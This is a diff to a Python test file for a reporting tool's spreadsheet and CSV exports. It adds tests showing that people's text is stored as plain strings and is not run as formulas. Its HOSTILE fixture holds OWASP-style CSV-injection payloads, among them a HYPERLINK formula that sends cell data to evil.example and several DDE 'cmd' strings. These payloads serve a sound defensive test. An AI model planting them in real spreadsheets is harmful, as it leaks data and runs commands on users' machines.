@@ -18,10 +18,18 @@ from sqlmodel import select
 
 from conversations import report_files
 from conversations.clock import Clock
-from conversations.reports import Report, ReportKind, Table, build, chat_summary, to_markdown
+from conversations.reports import (
+    Report,
+    ReportKind,
+    Section,
+    Table,
+    build,
+    chat_summary,
+    to_markdown,
+)
 from storage import report_queries
 from storage.db import transaction
-from storage.models import Scheme
+from storage.models import Cohort, Person, Scheme, SchemeChange, SurveyResponse
 from tests import report_fixture
 from tests.conftest import NOW
 from tests.report_fixture import SECRETS, Fixture
@@ -384,6 +392,94 @@ def test_the_workbook_has_a_sheet_per_table_with_bold_headers(
         "Tess Grant", "Feedback on your mentor (spring)", 3,
         "How well does your mentor support you?", 3, 3.7, None,
     ]  # fmt: skip
+
+
+# People's text that a spreadsheet would run as a formula (OWASP's CSV-injection examples).
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "answer": "+cmd|' /C calc'!A0",
+    "change": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "cohort": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def _hostile(db: Engine, fx: Fixture) -> Report:
+    """The known cohort after people typed formulas: a mentee's name, a written answer, a change
+    recorded by the lead, and the cohort's name."""
+    with transaction(db) as s:
+        scheme = s.exec(select(Scheme).where(Scheme.slug == "rep")).one()
+        scheme.settings = {**scheme.settings, "reports": {"show_free_text": True}}
+        s.add(scheme)
+        asha = s.get(Person, fx.people["asha"])
+        assert asha is not None
+        asha.display_name = HOSTILE["name"]
+        s.add(asha)
+        for response in s.exec(select(SurveyResponse)).all():
+            if "EVALTEXT-ONE" in str(response.answers):
+                response.answers = {
+                    k: (HOSTILE["answer"] if v == "EVALTEXT-ONE" else v)
+                    for k, v in response.answers.items()
+                }
+                s.add(response)
+        for change in s.exec(select(SchemeChange)).all():
+            change.text = HOSTILE["change"]
+            s.add(change)
+        cohort = s.get(Cohort, fx.cohort_id)
+        assert cohort is not None
+        cohort.name = HOSTILE["cohort"]
+        s.add(cohort)
+    return _report(db, fx, ReportKind.ANNUAL)
+
+
+def test_people_s_text_is_never_a_formula_in_the_workbook(engine: Engine, known: Fixture) -> None:
+    report = _hostile(engine, known)
+    book = load_workbook(io.BytesIO(report_files.xlsx_file(report).data))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert HOSTILE["name"] in texts  # shown as the text it is, in a string cell
+    assert HOSTILE["answer"] in texts
+    assert HOSTILE["change"] in texts
+    assert any(HOSTILE["cohort"] in t for t in texts)
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+    pairs = [[c.value for c in row] for row in book["Pairs"].iter_rows(min_row=2)]
+    assert pairs[0][0] == HOSTILE["name"]
+    assert pairs[0][7] == 5  # a number we computed stays a number
+
+
+def test_people_s_text_is_quoted_in_csv_files(engine: Engine, known: Fixture) -> None:
+    report = _hostile(engine, known)
+    cells = [
+        cell
+        for file in report_files.csv_files(report)
+        for row in csv.reader(io.StringIO(file.data.decode("utf-8-sig")))
+        for cell in row
+    ]
+    assert "'" + HOSTILE["name"] in cells
+    assert "'" + HOSTILE["answer"] in cells
+    assert "'" + HOSTILE["change"] in cells
+    assert not [c for c in cells if c.startswith(report_files.FORMULA_STARTS)]
+
+
+def test_a_negative_number_we_computed_stays_a_number() -> None:
+    table = Table("change", "Change", ("Measure", "Change"), (("Pairs", -3), ("-ve", 2.5)))
+    report = Report(
+        kind=ReportKind.HEALTH,
+        title="Scheme health",
+        scheme="S",
+        cohort="C",
+        cohort_slug="c",
+        as_of=date(2026, 11, 23),
+        period=None,
+        so_far=False,
+        sections=(Section("Figures", (), (table,)),),
+        charts=(),
+    )
+    rows = list(csv.reader(io.StringIO(report_files.csv_files(report)[0].data.decode("utf-8-sig"))))
+    assert rows[1:] == [["Pairs", "-3"], ["'-ve", "2.5"]]
+    sheet = load_workbook(io.BytesIO(report_files.xlsx_file(report).data))["Change"]
+    assert [(c.value, c.data_type) for c in sheet[2]] == [("Pairs", "s"), (-3, "n")]
+    assert [(c.value, c.data_type) for c in sheet[3]] == [("-ve", "s"), (2.5, "n")]
 
 
 def test_charts_are_valid_png_images(engine: Engine, known: Fixture) -> None:
